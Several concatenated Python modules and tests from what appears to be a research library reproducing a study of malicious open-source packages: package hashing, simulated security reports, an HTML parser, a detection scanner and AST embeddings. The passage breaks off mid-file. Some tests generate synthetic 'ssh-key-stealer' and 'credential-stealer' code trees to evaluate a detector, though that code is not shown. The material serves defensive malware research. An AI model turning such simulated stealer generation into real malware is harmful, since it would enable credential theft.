Reproduces the paper's RQ1 methodology on a fresh world: per-source
inventory (Table I), source overlap (Table IV), missing rates
(Table VI), and the causes of unavailability (Fig. 5) — then saves the
collected dataset to disk and loads it back, the round trip a downstream
consumer would do.

Run::

    python examples/dataset_audit.py
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from repro.analysis import (
    compute_missing_rates,
    compute_overlap_matrix,
    compute_source_inventory,
    compute_unavailability_causes,
)
from repro.io import load_dataset, save_dataset
from repro.world import WorldConfig, build_world, collect


def main() -> None:
    world = build_world(WorldConfig(seed=21, scale=0.4))
    result = collect(world)
    dataset = result.dataset

    print(compute_source_inventory(dataset).render())
    print()
    print(compute_overlap_matrix(dataset).render())
    print()
    print(compute_missing_rates(dataset).render())
    print()
    print(compute_unavailability_causes(dataset, world.mirrors).render())

    # Round-trip the dataset the way a downstream consumer would.
    with tempfile.TemporaryDirectory() as tmp:
        directory = save_dataset(dataset, Path(tmp) / "oss-malware")
        reloaded = load_dataset(directory)
        print(f"\nSaved and reloaded {len(reloaded.entries)} entries "
              f"and {len(reloaded.reports)} reports from {directory.name}/")
        assert len(reloaded.entries) == len(dataset.entries)


if __name__ == "__main__":
    main()
