"""Persistence: JSONL helpers, dataset save/load, graph exporters and
the dataset-publication generator."""

from repro.io.datasets import (
    entry_from_dict,
    entry_to_dict,
    load_dataset,
    report_from_dict,
    report_to_dict,
    save_dataset,
)
from repro.io.export import iter_pairwise_edges, to_dot, to_graphml, to_neo4j_csv
from repro.io.jsonl import read_jsonl, write_jsonl
from repro.io.publish import PublicationManifest, build_manifest, publish_dataset

__all__ = [
    "PublicationManifest",
    "build_manifest",
    "entry_from_dict",
    "entry_to_dict",
    "iter_pairwise_edges",
    "load_dataset",
    "publish_dataset",
    "read_jsonl",
    "report_from_dict",
    "report_to_dict",
    "save_dataset",
    "to_dot",
    "to_graphml",
    "to_neo4j_csv",
    "write_jsonl",
]
