"""Package model.

A :class:`PackageArtifact` is the unit everything else operates on: the
registry publishes artifacts, threat actors generate them, intel sources
report them, and MALGRAPH hashes/embeds/links them.

The model mirrors what the paper extracts from real packages:

* identity — name, version, ecosystem;
* metadata — description, author, declared dependencies (the paper reads
  these from ``package.json`` / ``*.requirement`` files);
* code — a mapping of file paths to source text, from which the SHA256
  signature and the AST embedding are computed.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

#: Ecosystems covered by the paper's dataset (Table I text).
ECOSYSTEMS = (
    "pypi",
    "npm",
    "rubygems",
    "maven",
    "cocoapods",
    "sourceforge",
    "docker",
    "composer",
    "nuget",
    "rust",
)

#: The three ecosystems most analyses break out (Fig. 4, Table VII).
MAJOR_ECOSYSTEMS = ("npm", "pypi", "rubygems")

#: Per-ecosystem name of the metadata/config file the paper parses.
METADATA_FILENAMES = {
    "pypi": "setup.cfg",
    "npm": "package.json",
    "rubygems": "gemspec.json",
    "maven": "pom.json",
    "cocoapods": "podspec.json",
    "sourceforge": "project.json",
    "docker": "manifest.json",
    "composer": "composer.json",
    "nuget": "nuspec.json",
    "rust": "cargo.json",
}


@dataclass(frozen=True, order=True)
class PackageId:
    """Identity of one published package version within an ecosystem."""

    ecosystem: str
    name: str
    version: str

    def __str__(self) -> str:  # pragma: no cover - repr convenience
        return f"{self.ecosystem}:{self.name}@{self.version}"

    @property
    def coordinate(self) -> str:
        """The ``name-version`` coordinate used in the paper's examples."""
        return f"{self.name}-{self.version}"


@dataclass
class PackageMetadata:
    """Metadata fields read from the package's configuration file."""

    description: str = ""
    author: str = ""
    homepage: str = ""
    keywords: Tuple[str, ...] = ()
    dependencies: Tuple[str, ...] = ()
    scripts: Dict[str, str] = field(default_factory=dict)

    def to_dict(self) -> dict:
        return {
            "description": self.description,
            "author": self.author,
            "homepage": self.homepage,
            "keywords": list(self.keywords),
            "dependencies": list(self.dependencies),
            "scripts": dict(self.scripts),
        }

    @classmethod
    def from_dict(cls, raw: dict) -> "PackageMetadata":
        return cls(
            description=raw.get("description", ""),
            author=raw.get("author", ""),
            homepage=raw.get("homepage", ""),
            keywords=tuple(raw.get("keywords", ())),
            dependencies=tuple(raw.get("dependencies", ())),
            scripts=dict(raw.get("scripts", {})),
        )


@dataclass
class PackageArtifact:
    """A concrete package: identity + metadata + source files.

    ``files`` maps relative paths to source text. Files whose path ends in
    ``.py`` are treated as code for signature and embedding purposes; the
    metadata/config file is written by :meth:`with_config_file`.
    """

    id: PackageId
    metadata: PackageMetadata
    files: Dict[str, str] = field(default_factory=dict)
    #: memoised code signature — artifacts are content-immutable once
    #: built (every mutation path constructs a new instance), so the
    #: canonicalisation pass runs once instead of once per consumer
    #: (embed_many, add_dataset_nodes, build_duplicated_edges, ...).
    _sha256: Optional[str] = field(default=None, repr=False, compare=False)
    #: memoised code-file view, same immutability argument as ``_sha256``
    _code_files: Optional[Dict[str, str]] = field(
        default=None, repr=False, compare=False
    )

    # -- identity helpers -------------------------------------------------
    @property
    def name(self) -> str:
        return self.id.name

    @property
    def version(self) -> str:
        return self.id.version

    @property
    def ecosystem(self) -> str:
        return self.id.ecosystem

    # -- content ----------------------------------------------------------
    def code_files(self) -> Dict[str, str]:
        """The source-code files of the package (paths ending in ``.py``)."""
        if self._code_files is None:
            self._code_files = {
                p: s for p, s in sorted(self.files.items()) if p.endswith(".py")
            }
        return self._code_files

    def code_text(self) -> str:
        """All code concatenated in path order (embedding input)."""
        return "\n".join(self.code_files().values())

    def canonical_code_bytes(self) -> bytes:
        """Canonical serialisation of the code files.

        The paper signs "the code extracted from the package", so the
        signature covers only code content (not metadata): two packages
        that differ only by name/description/dependencies share a
        signature — exactly the property the duplicated edge exploits
        (e.g. 'brock-loader' vs 'soltalabs-ramda-extra').
        """
        parts = []
        for path, source in self.code_files().items():
            parts.append(path.encode("utf-8"))
            parts.append(b"\x00")
            parts.append(source.encode("utf-8"))
            parts.append(b"\x00")
        return b"".join(parts)

    def sha256(self) -> str:
        """SHA256 signature of the package code (Section III-C), memoised."""
        if self._sha256 is None:
            self._sha256 = hashlib.sha256(self.canonical_code_bytes()).hexdigest()
        return self._sha256

    def loc(self) -> int:
        """Total non-blank source lines (used by the CC-size analysis)."""
        return sum(
            1
            for source in self.code_files().values()
            for line in source.splitlines()
            if line.strip()
        )

    # -- construction helpers ---------------------------------------------
    def with_config_file(self) -> "PackageArtifact":
        """Return a copy that includes the ecosystem's metadata file."""
        config_name = METADATA_FILENAMES.get(self.ecosystem, "metadata.json")
        payload = {
            "name": self.name,
            "version": self.version,
            "ecosystem": self.ecosystem,
        }
        payload.update(self.metadata.to_dict())
        files = dict(self.files)
        files[config_name] = json.dumps(payload, indent=2, sort_keys=True)
        return PackageArtifact(id=self.id, metadata=self.metadata, files=files)

    # -- serialisation ------------------------------------------------------
    def to_dict(self) -> dict:
        return {
            "ecosystem": self.ecosystem,
            "name": self.name,
            "version": self.version,
            "metadata": self.metadata.to_dict(),
            "files": dict(sorted(self.files.items())),
        }

    @classmethod
    def from_dict(cls, raw: dict) -> "PackageArtifact":
        return cls(
            id=PackageId(raw["ecosystem"], raw["name"], raw["version"]),
            metadata=PackageMetadata.from_dict(raw.get("metadata", {})),
            files=dict(raw.get("files", {})),
        )


def make_artifact(
    ecosystem: str,
    name: str,
    version: str,
    files: Dict[str, str],
    description: str = "",
    author: str = "",
    dependencies: Tuple[str, ...] = (),
    keywords: Tuple[str, ...] = (),
    scripts: Optional[Dict[str, str]] = None,
) -> PackageArtifact:
    """Convenience constructor that also writes the ecosystem config file."""
    metadata = PackageMetadata(
        description=description,
        author=author,
        keywords=tuple(keywords),
        dependencies=tuple(dependencies),
        scripts=dict(scripts or {}),
    )
    artifact = PackageArtifact(
        id=PackageId(ecosystem, name, version), metadata=metadata, files=dict(files)
    )
    return artifact.with_config_file()


def parse_coordinate(coordinate: str) -> Tuple[str, str]:
    """Split a ``name-version`` coordinate into (name, version).

    The version is the suffix after the last ``-`` that starts with a
    digit; this matches how the paper's examples write coordinates
    ('brock-loader-1.9.9' -> ('brock-loader', '1.9.9')).
    """
    head, sep, tail = coordinate.rpartition("-")
    if sep and tail[:1].isdigit():
        return head, tail
    return coordinate, ""
