"""Security analysis reports and the websites that host them.

Section III-A builds co-existing edges from security reports: a report
covering several packages reveals the attack campaign behind them. The
paper's report corpus (Table III) spans 68 websites in six categories.

Two report populations exist here:

* **primary reports** — written by the detecting intel source on its own
  website, covering a burst of packages from one campaign (an analyst
  tracking an actor publishes the batch together, like the Phylum and
  Lolip0p write-ups the paper cites);
* **echo reports** — technical-community sites, news outlets and personal
  blogs re-covering a primary report with a subset of its packages (this
  is how BleepingComputer-style coverage works, and it supplies the
  Technical Community / News / Other rows of Table III).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.ecosystem.clock import day_to_date
from repro.ecosystem.package import PackageId
from repro.intel.sources import (
    SOURCE_INDEX,
    AttributionOutcome,
    SourceEntry,
    SourceKind,
)

#: Table III website categories.
CATEGORIES = (
    "Technical Community",
    "Commercial org.",
    "News",
    "Individual",
    "Official",
    "Other",
)


@dataclass(frozen=True)
class Website:
    """One report-hosting website."""

    domain: str
    category: str


def build_websites() -> List[Website]:
    """The 68-website population of Table III.

    16 technical-community sites, 15 commercial, 4 news, 3 individual,
    1 official and 29 'other' sites.
    """
    sites: List[Website] = []
    for idx in range(16):
        sites.append(Website(f"techcommunity{idx:02d}.example.org", "Technical Community"))
    commercial = [
        "snyk.io/blog", "tianwen.qianxin.com", "blog.phylum.io",
        "socket.dev/blog", "github.com/datadog",
    ]
    for idx in range(15 - len(commercial)):
        commercial.append(f"vendor{idx:02d}.example.com/blog")
    sites.extend(Website(domain, "Commercial org.") for domain in commercial)
    for idx in range(4):
        sites.append(Website(f"secnews{idx}.example.net", "News"))
    for domain in ("iamakulov.com", "duo.com/blog", "indieblog.example.io"):
        sites.append(Website(domain, "Individual"))
    sites.append(Website("github.com/advisories", "Official"))
    for idx in range(29):
        sites.append(Website(f"misc{idx:02d}.example.org", "Other"))
    return sites


@dataclass
class SecurityReport:
    """One published security analysis report."""

    id: str
    source: str  # intel-source key, or "echo"
    website: str
    category: str
    publish_day: int
    title: str
    packages: List[PackageId]
    ecosystem: str
    actor_alias: str = ""
    campaign_id: str = ""  # ground truth, never used by the pipeline
    echo_of: Optional[str] = None

    @property
    def url(self) -> str:
        slug = self.title.lower().replace(" ", "-").replace("'", "")[:60]
        return f"https://{self.website}/{self.id}-{slug}"


_ALIAS_HEADS = ["Lolip0p", "RedLizard", "NullPhantom", "VoidRaccoon", "CyanWasp",
                "GreyKraken", "SunCobra", "IronMagpie"]

_TITLE_TEMPLATES = [
    "Malicious {eco} packages deliver {behavior} payloads",
    "Ongoing {eco} campaign drops {behavior} malware",
    "{alias} publishes info-stealing packages on {eco}",
    "Supply chain attack floods {eco} with malicious packages",
    "New {behavior} packages discovered in the {eco} registry",
]


@dataclass
class ReportCorpus:
    """All reports plus the hosting websites."""

    reports: List[SecurityReport]
    websites: List[Website]

    def by_category(self) -> Dict[str, List[SecurityReport]]:
        grouped: Dict[str, List[SecurityReport]] = {c: [] for c in CATEGORIES}
        for report in self.reports:
            grouped.setdefault(report.category, []).append(report)
        return grouped

    def websites_by_category(self) -> Dict[str, List[Website]]:
        grouped: Dict[str, List[Website]] = {c: [] for c in CATEGORIES}
        for site in self.websites:
            grouped.setdefault(site.category, []).append(site)
        return grouped


class ReportFactory:
    """Turns attribution results into a report corpus.

    A security report *names* packages but rarely lists a campaign
    exhaustively — analysts write up a handful of examples, and only
    large flood campaigns get bulk listings. The full record stream of a
    website source flows through its per-package advisory pages instead
    (see :mod:`repro.intel.web`), which is why the co-existing subgraph
    covers only a small slice of the dataset (Table II: 2,941 of 23k).
    """

    #: a new report starts when consecutive entries of a campaign are
    #: further apart than this, or the current report is full.
    burst_gap_days: int = 14
    max_packages_per_report: int = 60
    #: probability a report names just one package (no co-existing edge).
    single_package_rate: float = 0.62
    #: probability a large burst (>= bulk_threshold) is listed in full.
    bulk_list_rate: float = 0.7
    bulk_threshold: int = 20
    #: probability a follow-up report repeats a package from the previous
    #: report of the same campaign (what chains a campaign's reports into
    #: one co-existing group).
    followup_overlap_rate: float = 0.5

    #: per-category probability that a primary report gets echoed there.
    echo_rates: Dict[str, float] = {
        "Technical Community": 0.95,
        "News": 0.27,
        "Other": 0.08,
        "Individual": 0.10,
    }

    def __init__(self, seed: int = 23):
        self.rng = random.Random(seed)
        self.websites = build_websites()
        self._alias_by_actor: Dict[str, str] = {}
        self._counter = 0

    def _next_id(self) -> str:
        self._counter += 1
        return f"rep{self._counter:05d}"

    def _alias(self, actor: str) -> str:
        if actor not in self._alias_by_actor:
            head = self.rng.choice(_ALIAS_HEADS)
            self._alias_by_actor[actor] = f"{head}{len(self._alias_by_actor):02d}"
        return self._alias_by_actor[actor]

    # ------------------------------------------------------------------
    def build(self, outcome: AttributionOutcome) -> ReportCorpus:
        """Produce primary + echo reports from attribution results."""
        reports: List[SecurityReport] = []
        campaign_meta = {
            case.campaign.id: case.campaign for case in outcome.cases
        }
        # -- primary reports ------------------------------------------------
        for source_key, entries in outcome.entries_by_source().items():
            profile = SOURCE_INDEX[source_key]
            if profile.kind == SourceKind.DATASET:
                continue  # datasets ship data, not write-ups
            by_campaign: Dict[str, List[SourceEntry]] = {}
            for entry in entries:
                by_campaign.setdefault(entry.campaign_id, []).append(entry)
            for campaign_id, campaign_entries in sorted(by_campaign.items()):
                campaign = campaign_meta.get(campaign_id)
                actor = campaign.actor if campaign else "unknown"
                behavior = campaign.behavior_key if campaign else "malware"
                previous_listed: List[PackageId] = []
                for burst in self._bursts(campaign_entries):
                    listed = self._listed_packages(burst)
                    if previous_listed and self.rng.random() < self.followup_overlap_rate:
                        carry = self.rng.choice(previous_listed)
                        if carry not in listed:
                            listed.append(carry)
                    previous_listed = list(listed)
                    reports.append(
                        self._primary_report(
                            profile.key,
                            profile.website,
                            profile.category,
                            burst,
                            listed,
                            behavior,
                            actor,
                            campaign_id,
                        )
                    )
        # -- echo reports -----------------------------------------------------
        sites = ReportCorpus(reports=[], websites=self.websites).websites_by_category()
        echoes: List[SecurityReport] = []
        for report in reports:
            for category, rate in self.echo_rates.items():
                if self.rng.random() >= rate:
                    continue
                site = self.rng.choice(sites[category])
                sample_size = max(1, int(len(report.packages) * self.rng.uniform(0.4, 1.0)))
                packages = self.rng.sample(
                    report.packages, min(sample_size, len(report.packages))
                )
                echoes.append(
                    SecurityReport(
                        id=self._next_id(),
                        source="echo",
                        website=site.domain,
                        category=site.category,
                        publish_day=report.publish_day + self.rng.randrange(1, 14),
                        title=f"Report: {report.title}",
                        packages=list(packages),
                        ecosystem=report.ecosystem,
                        actor_alias=report.actor_alias,
                        campaign_id=report.campaign_id,
                        echo_of=report.id,
                    )
                )
        reports.extend(echoes)
        reports.sort(key=lambda r: (r.publish_day, r.id))
        return ReportCorpus(reports=reports, websites=self.websites)

    # ------------------------------------------------------------------
    def _bursts(self, entries: List[SourceEntry]) -> List[List[SourceEntry]]:
        entries = sorted(entries, key=lambda e: e.report_day)
        bursts: List[List[SourceEntry]] = []
        current: List[SourceEntry] = []
        for entry in entries:
            if current and (
                entry.report_day - current[-1].report_day > self.burst_gap_days
                or len(current) >= self.max_packages_per_report
            ):
                bursts.append(current)
                current = []
            current.append(entry)
        if current:
            bursts.append(current)
        return bursts

    def _listed_packages(self, burst: List[SourceEntry]) -> List[PackageId]:
        """Which of a burst's packages the write-up actually names."""
        packages = [e.package for e in burst]
        n = len(packages)
        if n == 1:
            return packages
        if n >= self.bulk_threshold and self.rng.random() < self.bulk_list_rate:
            return packages[: self.max_packages_per_report]
        if self.rng.random() < self.single_package_rate:
            return [self.rng.choice(packages)]
        k = self.rng.randint(2, min(n, 12))
        return self.rng.sample(packages, k)

    def _primary_report(
        self,
        source_key: str,
        website: str,
        category: str,
        burst: List[SourceEntry],
        listed: List[PackageId],
        behavior: str,
        actor: str,
        campaign_id: str,
    ) -> SecurityReport:
        alias = self._alias(actor)
        ecosystem = burst[0].package.ecosystem
        template = self.rng.choice(_TITLE_TEMPLATES)
        title = template.format(eco=ecosystem.upper(), behavior=behavior, alias=alias)
        publish_day = max(e.report_day for e in burst) + self.rng.randrange(1, 5)
        return SecurityReport(
            id=self._next_id(),
            source=source_key,
            website=website,
            category=category,
            publish_day=publish_day,
            title=title,
            packages=list(listed),
            ecosystem=ecosystem,
            actor_alias=alias,
            campaign_id=campaign_id,
        )
