"""Degradation surfacing: healthz/stats over a degraded collection."""

from __future__ import annotations

import json
import threading
import urllib.request

import pytest

from repro.service.cache import EnrichmentService, build_service
from repro.service.server import create_server, server_address


@pytest.fixture(scope="module")
def degraded_live(engine):
    """A server whose backing collection artifact was built degraded."""
    service = EnrichmentService(engine, capacity=64, degraded=True)
    server = create_server(service, port=0)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{host}:{port}", service
    server.shutdown()
    server.server_close()


def _get(url: str):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, json.load(response)


def test_healthz_flips_to_degraded_but_stays_200(degraded_live):
    base, service = degraded_live
    status, body = _get(f"{base}/v1/healthz")
    assert status == 200  # the service itself is healthy
    assert body == {
        "status": "degraded",
        "packages": service.index.package_count,
        "epoch": service.index.epoch,
        "last_delta_at": service.index.last_delta_at,
    }


def test_stats_reports_collection_degradation(degraded_live):
    base, _ = degraded_live
    status, body = _get(f"{base}/v1/stats")
    assert status == 200
    assert body["collection"] == {"degraded": True}


def test_service_defaults_to_not_degraded(engine):
    service = EnrichmentService(engine, capacity=64)
    assert service.degraded is False
    assert service.stats()["collection"] == {"degraded": False}


def test_build_service_threads_the_flag(service_malgraph):
    assert build_service(service_malgraph, degraded=True).degraded is True
    assert build_service(service_malgraph).degraded is False
