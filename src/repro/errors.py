"""Exception hierarchy for the repro library.

Every error raised by the library derives from :class:`ReproError`, so
callers can catch one base type at the API boundary.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by this library."""


class ConfigError(ReproError):
    """An invalid configuration value was supplied."""


class RegistryError(ReproError):
    """Base class for registry errors."""


class DuplicatePackageError(RegistryError):
    """A (name, version) pair was published twice in the same registry."""


class PackageNotFoundError(RegistryError):
    """The requested (name, version) pair does not exist."""


class PackageRemovedError(RegistryError):
    """The requested package existed but has been removed by the registry."""


class ClockError(ReproError):
    """The simulation clock was used inconsistently (e.g. moved backwards)."""


class GraphError(ReproError):
    """Base class for property-graph errors."""


class NodeNotFoundError(GraphError):
    """A graph operation referenced a node id that does not exist."""


class EdgeTypeError(GraphError):
    """An unknown edge type was referenced."""


class EmbeddingError(ReproError):
    """Source code could not be embedded (unparseable and no fallback)."""


class CrawlError(ReproError):
    """The spider failed to fetch or parse a simulated web page."""


class DatasetError(ReproError):
    """The collected dataset is inconsistent or malformed."""


class ValidationError(ReproError):
    """A request payload failed type or shape validation."""
