"""Persistence: JSONL helpers, dataset and MALGRAPH save/load, graph
exporters and the dataset-publication generator."""

from repro.io.datasets import (
    collection_stats_from_dict,
    collection_stats_to_dict,
    entry_from_dict,
    entry_to_dict,
    load_dataset,
    report_from_dict,
    report_to_dict,
    save_dataset,
)
from repro.io.export import iter_pairwise_edges, to_dot, to_graphml, to_neo4j_csv
from repro.io.jsonl import read_jsonl, write_jsonl
from repro.io.malgraphs import (
    load_malgraph,
    malgraph_from_dict,
    malgraph_to_dict,
    save_malgraph,
)
from repro.io.publish import PublicationManifest, build_manifest, publish_dataset

__all__ = [
    "PublicationManifest",
    "build_manifest",
    "collection_stats_from_dict",
    "collection_stats_to_dict",
    "entry_from_dict",
    "entry_to_dict",
    "iter_pairwise_edges",
    "load_dataset",
    "load_malgraph",
    "malgraph_from_dict",
    "malgraph_to_dict",
    "publish_dataset",
    "read_jsonl",
    "report_from_dict",
    "report_to_dict",
    "save_dataset",
    "save_malgraph",
    "to_dot",
    "to_graphml",
    "to_neo4j_csv",
    "write_jsonl",
]
