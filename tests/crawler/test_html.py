"""MiniSoup parser and the HTML writer round-trip."""

from __future__ import annotations

import pytest

from repro.crawler.html import MiniSoup, render_page, tag, text


def test_tag_renders_attributes():
    assert tag("p", "hi", class_="lead") == '<p class="lead">hi</p>'


def test_tag_escapes_attribute_values():
    out = tag("a", "x", href='u"v')
    assert "&quot;" in out


def test_tag_void_elements_self_close():
    assert tag("br") == "<br/>"
    assert tag("meta", name="keywords") == '<meta name="keywords"/>'


def test_tag_joins_sequence_content():
    assert tag("ul", [tag("li", "a"), tag("li", "b")]) == (
        "<ul><li>a</li><li>b</li></ul>"
    )


def test_text_escapes():
    assert text("<script>") == "&lt;script&gt;"


def test_render_page_structure():
    page = render_page("My Title", [tag("p", "body text")], keywords=("k1", "k2"))
    assert page.startswith("<!DOCTYPE html>")
    soup = MiniSoup(page)
    assert soup.title == "My Title"
    assert soup.find("p").get_text() == "body text"


def test_writer_parser_roundtrip_preserves_escaped_text():
    page = render_page("T", [tag("p", text("a < b & c"))])
    assert MiniSoup(page).find("p").get_text() == "a < b & c"


def test_find_all_by_tag_and_class():
    soup = MiniSoup(
        '<div><p class="x y">one</p><p class="y">two</p><span class="y">s</span></div>'
    )
    assert len(soup.find_all("p")) == 2
    assert len(soup.find_all(class_="y")) == 3
    assert len(soup.find_all("p", class_="x")) == 1
    assert soup.find("p", class_="x").get_text() == "one"


def test_find_returns_none_when_absent():
    soup = MiniSoup("<p>hello</p>")
    assert soup.find("table") is None
    assert soup.find_all("table") == []


def test_get_text_with_separator():
    soup = MiniSoup("<div><p>a</p><p>b</p></div>")
    assert soup.find("div").get_text("|") == "a|b"


def test_parser_tolerates_unclosed_tags():
    soup = MiniSoup("<div><p>open<p>second</div><p>after")
    texts = [p.get_text() for p in soup.find_all("p")]
    assert "open" in texts[0]
    assert len(texts) == 3


def test_parser_ignores_stray_close_tags():
    soup = MiniSoup("</div><p>fine</p></span>")
    assert soup.find("p").get_text() == "fine"


def test_nested_lookup():
    soup = MiniSoup(
        '<ul class="package-list"><li><code>a==1.0</code></li></ul>'
    )
    package_list = soup.find("ul", class_="package-list")
    items = package_list.find_all("li")
    assert len(items) == 1
    assert items[0].get_text() == "a==1.0"


def test_css_classes_property():
    soup = MiniSoup('<p class="a b  c">x</p>')
    assert soup.find("p").css_classes == ["a", "b", "c"]
