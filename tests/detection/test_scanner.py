"""Registry scanning and ground-truth evaluation on the corpus."""

from __future__ import annotations

import pytest

from repro.detection.detector import Detector
from repro.detection.scanner import RegistryScanner, evaluate_on_corpus
from repro.ecosystem.registry import Registry
from repro.malware.behaviors import get_behavior
from repro.malware.codegen import (
    generate_benign_source_tree,
    generate_source_tree,
    make_style,
)
from repro.ecosystem.package import make_artifact


def _registry_with_mix() -> Registry:
    registry = Registry("pypi")
    evil_tree = generate_source_tree(
        get_behavior("ssh-key-stealer"), make_style(3), "pkg_e"
    )
    nice_tree = generate_benign_source_tree(make_style(4), "pkg_n")
    registry.publish(
        make_artifact("pypi", "evil-kit", "1.0", evil_tree.files), day=10,
        malicious=True,
    )
    registry.publish(
        make_artifact(
            "pypi", "nice-kit", "1.0", nice_tree.files,
            description="A well-maintained toolkit",
        ),
        day=20,
    )
    return registry


def test_sweep_flags_only_malicious():
    alerts = RegistryScanner().sweep(_registry_with_mix())
    assert [a.name for a in alerts] == ["evil-kit"]
    alert = alerts[0]
    assert alert.ecosystem == "pypi"
    assert alert.release_day == 10
    assert alert.verdict.malicious


def test_sweep_day_window():
    scanner = RegistryScanner()
    registry = _registry_with_mix()
    assert scanner.sweep(registry, since_day=11) == []
    assert len(scanner.sweep(registry, since_day=0, until_day=15)) == 1


def test_sweep_hub_covers_all_registries():
    from repro.ecosystem.registry import RegistryHub

    hub = RegistryHub(["pypi", "npm"])
    evil_tree = generate_source_tree(
        get_behavior("downloader"), make_style(7), "pkg_x"
    )
    hub["npm"].publish(
        make_artifact("npm", "evil-npm", "1.0", evil_tree.files), day=5,
        malicious=True,
    )
    alerts = RegistryScanner().sweep_hub(hub)
    assert [a.ecosystem for a in alerts] == ["npm"]


def test_evaluate_on_corpus_high_recall(small_corpus):
    """The rule set catches nearly all payload-carrying releases and
    keeps the benign population nearly clean (the 'today's tools work
    well' insight of RQ2)."""
    result = evaluate_on_corpus(small_corpus, sample=300)
    assert result.recall > 0.95
    assert result.precision > 0.95


def test_evaluate_on_corpus_sample_cap(small_corpus):
    result = evaluate_on_corpus(small_corpus, sample=10)
    assert result.true_positives + result.false_negatives == 10
    assert result.true_negatives + result.false_positives == 10


def test_fronts_score_below_payload_releases(small_corpus):
    """Dependency-campaign front packages carry no payload of their own;
    their scores sit well below payload-carrying releases even when the
    squat-name/install-hook heuristics still graze them."""
    from repro.malware.campaigns import Archetype

    detector = Detector()
    front_scores, payload_scores = [], []
    for campaign in small_corpus.campaigns_by_archetype(Archetype.DEPENDENCY):
        for release in campaign.releases:
            score = detector.scan(release.artifact).score
            if release.carries_payload:
                payload_scores.append(score)
            else:
                front_scores.append(score)
    if front_scores and payload_scores:
        mean = lambda xs: sum(xs) / len(xs)
        assert mean(front_scores) < mean(payload_scores)
