"""AST embedder: deterministic, normalised, and 'similar code → nearby
vectors' — the property the similarity pipeline relies on."""

from __future__ import annotations

import random

import numpy as np
import pytest

from repro.core.embedding import (
    PARALLEL_MIN_BATCH,
    AstEmbedder,
    cosine_similarity,
    iter_lexical_features,
    iter_structural_features,
    resolve_jobs,
)
from repro.ecosystem.package import make_artifact
from repro.errors import EmbeddingError
from repro.malware.behaviors import get_behavior
from repro.malware.codegen import generate_source_tree, make_style, mutate_code

SOURCE_A = """
import os
import json

def gather(root):
    rows = []
    for name in os.listdir(root):
        rows.append({'name': name, 'size': len(name)})
    return json.dumps(rows)
"""

SOURCE_B = """
import os
import json

def collect(base):
    items = []
    for entry in os.listdir(base):
        items.append({'name': entry, 'size': len(entry)})
    return json.dumps(items)
"""

SOURCE_C = """
class Matrix:
    def __init__(self, rows):
        self.rows = rows

    def transpose(self):
        return Matrix(list(zip(*self.rows)))

    def scale(self, factor):
        return Matrix([[v * factor for v in row] for row in self.rows])
"""


def _artifact(name: str, source: str):
    return make_artifact("pypi", name, "1.0.0", {f"{name}/main.py": source})


@pytest.fixture(scope="module")
def embedder() -> AstEmbedder:
    return AstEmbedder()


def test_embedding_is_unit_norm(embedder):
    vec = embedder.embed_source(SOURCE_A)
    assert np.linalg.norm(vec) == pytest.approx(1.0)
    assert vec.shape == (embedder.dim,)


def test_embedding_deterministic(embedder):
    a = embedder.embed_source(SOURCE_A)
    b = embedder.embed_source(SOURCE_A)
    assert np.array_equal(a, b)


def test_same_shape_different_names_still_close(embedder):
    """Structural features keep renamed-but-identical logic nearby."""
    sim_renamed = cosine_similarity(
        embedder.embed_source(SOURCE_A), embedder.embed_source(SOURCE_B)
    )
    sim_unrelated = cosine_similarity(
        embedder.embed_source(SOURCE_A), embedder.embed_source(SOURCE_C)
    )
    assert sim_renamed > sim_unrelated


def test_identical_code_has_similarity_one(embedder):
    sim = cosine_similarity(
        embedder.embed_source(SOURCE_C), embedder.embed_source(SOURCE_C)
    )
    assert sim == pytest.approx(1.0)


def test_syntax_error_falls_back_to_tokens(embedder):
    vec = embedder.embed_source("def broken(:\n    pass")
    assert np.linalg.norm(vec) == pytest.approx(1.0)
    # the fallback still separates different token streams
    other = embedder.embed_source("class Also(:\n    ...")
    assert cosine_similarity(vec, other) < 0.999


def test_empty_source_is_zero_vector(embedder):
    vec = embedder.embed_source("")
    assert np.linalg.norm(vec) == pytest.approx(0.0)


def test_embed_package_requires_code(embedder):
    artifact = make_artifact("pypi", "meta-only", "1.0", {"README.md": "hi"})
    with pytest.raises(EmbeddingError):
        embedder.embed_package(artifact)


def test_embed_package_combines_files(embedder):
    one = _artifact("single", SOURCE_A)
    two = make_artifact(
        "pypi", "double", "1.0.0",
        {"double/a.py": SOURCE_A, "double/b.py": SOURCE_C},
    )
    va, vb = embedder.embed_package(one), embedder.embed_package(two)
    assert np.linalg.norm(va) == pytest.approx(1.0)
    assert np.linalg.norm(vb) == pytest.approx(1.0)
    assert not np.array_equal(va, vb)


def test_embed_many_shape_and_cache(embedder):
    artifacts = [_artifact("p1", SOURCE_A), _artifact("p2", SOURCE_A)]
    matrix = embedder.embed_many(artifacts)
    assert matrix.shape == (2, embedder.dim)
    # identical code -> identical rows (signature cache and determinism)
    assert np.array_equal(matrix[0], matrix[1])


def test_embed_many_empty(embedder):
    assert embedder.embed_many([]).shape == (0, embedder.dim)


def test_campaign_code_clusters_tighter_than_cross_campaign(embedder):
    """The embedding separates two campaigns using the same behaviour
    template but different styles, while keeping a campaign's own
    CC-mutated variants close — the core requirement of Section III-A."""
    behavior = get_behavior("credential-stealer")
    style_one, style_two = make_style(101), make_style(202)
    tree_one = generate_source_tree(behavior, style_one, "pkg_one")
    tree_two = generate_source_tree(behavior, style_two, "pkg_two")
    rng = random.Random(0)
    mutated = mutate_code(dict(tree_one.files), rng)

    base = make_artifact("pypi", "camp1-a", "1.0", tree_one.files)
    variant = make_artifact("pypi", "camp1-b", "1.0", mutated)
    foreign = make_artifact("pypi", "camp2-a", "1.0", tree_two.files)

    v_base = embedder.embed_package(base)
    v_variant = embedder.embed_package(variant)
    v_foreign = embedder.embed_package(foreign)

    within = cosine_similarity(v_base, v_variant)
    across = cosine_similarity(v_base, v_foreign)
    assert within > 0.95
    assert within > across


def test_structural_features_cover_nesting():
    import ast

    tree = ast.parse("def f():\n    if True:\n        return 1")
    feats = list(iter_structural_features(tree))
    assert "st2:FunctionDef>If" in feats
    assert any(f.startswith("st3:") for f in feats)


def test_lexical_features_cover_vocabulary():
